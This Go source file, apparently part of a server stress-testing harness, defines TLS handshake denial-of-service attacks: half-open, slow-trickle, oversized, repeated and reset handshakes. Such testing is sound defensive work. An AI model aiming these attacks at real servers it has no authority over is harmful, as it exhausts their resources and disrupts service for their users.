package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"net"
	"strings"
)

// clientHello is the first message of a handshake.
var clientHello = func() string {
	var hello bytes.Buffer
	// The handshake fails once it has written its first message: the recorder has no server.
	_ = tls.Client(recorder{written: &hello}, &tls.Config{ServerName: "ringside", MinVersion: tls.VersionTLS12}).Handshake()
	return hello.String()
}()

// recorder is a connection that records what is written.
type recorder struct {
	net.Conn
	written *bytes.Buffer
}

func (r recorder) Write(p []byte) (int, error) { return r.written.Write(p) }
func (r recorder) Read([]byte) (int, error)    { return 0, errors.New("no server") }
func (r recorder) Close() error                { return nil }

// HalfHandshakes begins n handshakes and does not go on after the server's part.
func HalfHandshakes(n int) Attack { return Send(n, clientHello) }

// SlowHandshakes begins n handshakes whose first message arrives a byte at a time.
func SlowHandshakes(n int) Attack { return Trickle(n, clientHello[:len(clientHello)-100], 0) }

// HugeHandshakes begins n handshakes with a first message that announces 16 MiB, in records of 16 KiB.
func HugeHandshakes(n int) Attack {
	record := "\x16\x03\x01\x40\x00"
	first := record + "\x01\xff\xff\xff" + strings.Repeat("x", 1<<14-4)
	return Flood(n, first, record+strings.Repeat("x", 1<<14))
}

// Handshakes makes handshakes over and over, n at a time, without a certificate.
func Handshakes(n int) Attack {
	return Crowd(n, func(ctx context.Context, c net.Conn, _ int) error {
		// The server is to reject it.
		return errors.Join(net.ErrClosed, tls.Client(c, &tls.Config{InsecureSkipVerify: true}).HandshakeContext(ctx))
	})
}

// ResetHandshakes begins handshakes over and over, n at a time, and resets the connections.
func ResetHandshakes(n int) Attack { return Reset(n, clientHello) }
